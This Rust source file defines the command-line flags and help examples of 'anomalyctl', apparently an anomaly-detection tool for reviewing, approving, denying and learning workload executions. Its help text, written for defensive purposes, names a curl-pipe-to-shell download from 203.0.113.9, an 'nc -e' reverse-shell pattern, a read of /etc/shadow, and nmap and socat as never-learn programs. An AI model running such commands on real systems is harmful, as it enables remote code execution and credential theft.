//! The flags of the commands by which people look at what was learned and say what they think of it.

use std::time::Duration;

use anomaly_baseline::{Pattern, RowState};
use anomaly_vectorizer::Kind;
use clap::Args;

use crate::durations;
use crate::place::Which;
use crate::secrets::Secrets;

pub(crate) const HELD_EXAMPLES: &str = "\
Examples:
  anomalyctl held
      what waits for a decision, grouped as alerts are, the most novel first
  anomalyctl held --workload 'ci*' --each
      every held execution of some workloads by itself
  anomalyctl held --json | jq '.[] | select(.score >= 0.95) | .command'
      the same for another program
  anomalyctl held --history
      who decided what, when and why, and what came of it

An id that starts with g stands for the executions of a group that are held, one that starts with r for one \
execution; their first few letters will do. It works beside `anomalyctl watch` and the plugin, and without \
them.
Exit codes: 0 when it did, 2 when it could not.";

pub(crate) const APPROVE_EXAMPLES: &str = "\
Examples:
  anomalyctl approve g1f4c22aa --why 'the new backup job'
      what `anomalyctl held` shows under this id is normal from now on
  anomalyctl approve 'restic *' --workload web --dry-run
      what a pattern would touch: * stands for anything, ? for one character

A pattern is compared with the whole command line, with the program's name and with the workload's, and \
approves what is held. So does a group's id; --state denied means those of the group that were denied. The \
id of one execution approves it whatever it is. Whoever writes the database takes it up within seconds and \
without a restart; where nobody does, it is applied at once.
Exit codes: 0 when it is done or recorded, 2 when nothing matches or it could not be.";

pub(crate) const DENY_EXAMPLES: &str = "\
Examples:
  anomalyctl deny g1f4c22aa --why 'incident 4711'
      it stays novel for ever, however often it runs
  anomalyctl deny 'nc -e *' --dry-run
      what a pattern would touch, what was learned included

A group's id means what is held of the group; --state learned means what was learned of it. What is denied \
never becomes normal and scores as if nothing were like it. `anomalyctl approve ID` takes that back, with \
--state denied for a group.
Exit codes: 0 when it is done or recorded, 2 when nothing matches or it could not be.";

pub(crate) const FORGET_EXAMPLES: &str = "\
Examples:
  anomalyctl forget rb0c1d2e3
      as if this execution had never been seen, whether it was learned, held or denied
  anomalyctl forget '*--token*' --workload ci --dry-run
      what a pattern would touch
  anomalyctl forget g1f4c22aa --state denied --executions 2
      the two that were denied of a group, and nothing where by now they are three

A group's id means what is held of the group where --state says nothing else. Rows leave the disk with the \
next compaction, some minutes later. What was typed here stays in the history.
Exit codes: 0 when it is done or recorded, 2 when nothing matches or it could not be.";

pub(crate) const LEARN_EXAMPLES: &str = "\
Examples:
  anomalyctl learn docker.io/library/nginx --for 1h --why 'release 2.4'
      for an hour everything that this workload runs is learned at once
  anomalyctl learn 'ci-*' --for 10m
      the same for every workload that matches
  anomalyctl learn web --for 0s
      closes the window

Scores and alerts go on meanwhile. Programs of the never-learn list (nmap, socat, ...) and what is denied \
are not learned. The window shows in `anomalyctl status` and ends by itself.
Exit codes: 0 when it is done or recorded, 2 when nothing matches or it could not be.";

pub(crate) const EXPLAIN_EXAMPLES: &str = "\
Examples:
  anomalyctl explain r1f4c22aa
      a held execution: its features beside those of the nearest learned ones, and how its score comes about
  anomalyctl explain 754d8530-67d6-41f9-a3a5-d1f00c0ffee1
      the execution of an alert, by its uuid, or by the id in a finding: the daemon is asked which row that is
  anomalyctl explain --workload web --parent nginx --uid 33 'sh -c \"curl http://203.0.113.9/x | sh\"'
      one that nobody ran
  anomalyctl explain --workload web -- curl -s http://127.0.0.1/healthz
      the same, word by word
  anomalyctl explain --kind open --name nginx --exe /usr/sbin/nginx --uid 33 /etc/shadow read
      another act than an execution: its object, then how it is done

A command line that was seen stands for what was seen, parent and user included, unless flags say otherwise.
Exit codes: 0 when it did, 2 when it could not.";

pub(crate) const STATUS_EXAMPLES: &str = "\
Examples:
  anomalyctl status
      every workload: learning or settled, how much it knows, what waits for a decision
  anomalyctl status --json | jq -r '.workloads[] | select(.learning) | .workload'
      the workloads that have no scores yet
Exit codes: 0 when it did, 2 when it could not.";

/// `anomalyctl held`
#[derive(Debug, Args)]
pub(crate) struct Held {
    #[command(flatten)]
    pub(crate) which: Which,

    /// Only workloads that match
    #[arg(long, value_name = "PATTERN")]
    pub(crate) workload: Option<Pattern>,

    /// Every execution by itself, not grouped
    #[arg(long)]
    pub(crate) each: bool,

    /// Rows of another state: held, denied, learned, forgotten or all
    #[arg(long, value_name = "STATE", default_value = "held", value_parser = ["held", "denied", "learned", "forgotten", "all"])]
    pub(crate) state: String,

    /// Who decided what, when and why, instead
    #[arg(long, conflicts_with_all = ["each", "state"])]
    pub(crate) history: bool,

    /// Print one JSON array
    #[arg(long)]
    pub(crate) json: bool,
}

/// `anomalyctl approve`, `deny` and `forget`
#[derive(Debug, Args)]
pub(crate) struct Decide {
    /// Ids as `anomalyctl held` shows them, of findings and alerts, or patterns such as 'curl *'
    #[arg(value_name = "ID|PATTERN", required = true)]
    pub(crate) wanted: Vec<String>,

    #[command(flatten)]
    pub(crate) which: Which,

    /// Only workloads that match
    #[arg(long, value_name = "PATTERN")]
    pub(crate) workload: Option<Pattern>,

    /// Only executions in this state: held, denied, learned or forgotten; of groups held where nothing is said
    #[arg(long, value_name = "STATE", value_parser = state)]
    pub(crate) state: Option<RowState>,

    /// How many executions were shown: where it would touch another number, it touches none
    #[arg(long, value_name = "N")]
    pub(crate) executions: Option<usize>,

    #[command(flatten)]
    pub(crate) manner: Manner,
}

/// Reads a state.
fn state(text: &str) -> Result<RowState, String> {
    match text {
        "held" => Ok(RowState::Held),
        "denied" => Ok(RowState::Denied),
        "learned" => Ok(RowState::Active),
        "forgotten" => Ok(RowState::Forgotten),
        _ => Err("no such state; there are held, denied, learned and forgotten".to_owned()),
    }
}

/// How a decision is given.
#[derive(Debug, Clone, Args)]
pub(crate) struct Manner {
    /// Why, for those who read the history
    #[arg(long, value_name = "TEXT", default_value = "")]
    pub(crate) why: String,

    /// Show what it would touch, and touch nothing
    #[arg(long)]
    pub(crate) dry_run: bool,

    /// Write it down without waiting until it is taken up
    #[arg(long)]
    pub(crate) no_wait: bool,

    /// Print one JSON object
    #[arg(long)]
    pub(crate) json: bool,
}

/// `anomalyctl learn`
#[derive(Debug, Args)]
pub(crate) struct Learn {
    /// The workload's name, or a pattern such as 'ci-*'
    #[arg(value_name = "WORKLOAD")]
    pub(crate) workload: Pattern,

    /// For how long from now: 10m, 1h, at most 31d; 0s closes the window
    #[arg(long = "for", value_name = "TIME", value_parser = window)]
    pub(crate) window: Duration,

    #[command(flatten)]
    pub(crate) which: Which,

    #[command(flatten)]
    pub(crate) manner: Manner,
}

/// `anomalyctl explain`
#[derive(Debug, Args)]
pub(crate) struct Explain {
    /// An id as `anomalyctl held` shows it, of a finding or an alert, or a command line; with --kind an object and flags
    #[arg(value_name = "ID|COMMAND", required = true)]
    pub(crate) what: Vec<String>,

    /// It is another act than an execution, such as open, connect or ptrace: what follows is its object and its flags
    #[arg(long, value_name = "KIND", value_parser = kind, requires = "name")]
    pub(crate) kind: Option<Kind>,

    /// The path of the program that acts
    #[arg(long, value_name = "PATH", requires = "kind", default_value = "")]
    pub(crate) exe: String,

    #[command(flatten)]
    pub(crate) which: Which,

    /// Whose normal it is compared with; may be left out where there is one workload only
    #[arg(long, value_name = "NAME")]
    pub(crate) workload: Option<String>,

    /// The program's name [default: that of its first word]
    #[arg(long, value_name = "NAME")]
    pub(crate) name: Option<String>,

    /// The name of the process that starts it
    #[arg(long, value_name = "NAME")]
    pub(crate) parent: Option<String>,

    /// The name of that one's parent
    #[arg(long, value_name = "NAME")]
    pub(crate) grandparent: Option<String>,

    /// The user id that it runs as [default: 0]
    #[arg(long, value_name = "UID")]
    pub(crate) uid: Option<u32>,

    #[command(flatten)]
    pub(crate) secrets: Secrets,

    /// Print one JSON object
    #[arg(long)]
    pub(crate) json: bool,
}

/// Reads a kind of act.
fn kind(text: &str) -> Result<Kind, String> {
    let acts = Kind::ALL.into_iter().filter(|kind| kind.is_act());
    Kind::named(text).filter(|kind| kind.is_act()).ok_or_else(|| {
        let known: Vec<_> = acts.map(Kind::as_str).collect();
        format!("no kind of act; there are {}", known.join(", "))
    })
}

/// `anomalyctl status`
#[derive(Debug, Args)]
pub(crate) struct Status {
    #[command(flatten)]
    pub(crate) which: Which,

    /// Only workloads that match
    #[arg(long, value_name = "PATTERN")]
    pub(crate) workload: Option<Pattern>,

    /// Print one JSON object
    #[arg(long)]
    pub(crate) json: bool,
}

/// A window's length.
fn window(text: &str) -> Result<Duration, String> {
    let window = durations::parse(text).map_err(|error| error.to_string())?;
    if window > anomaly_baseline::Feedback::MAX_WINDOW {
        return Err("a window is open for 31d at most".into());
    }
    Ok(window)
}
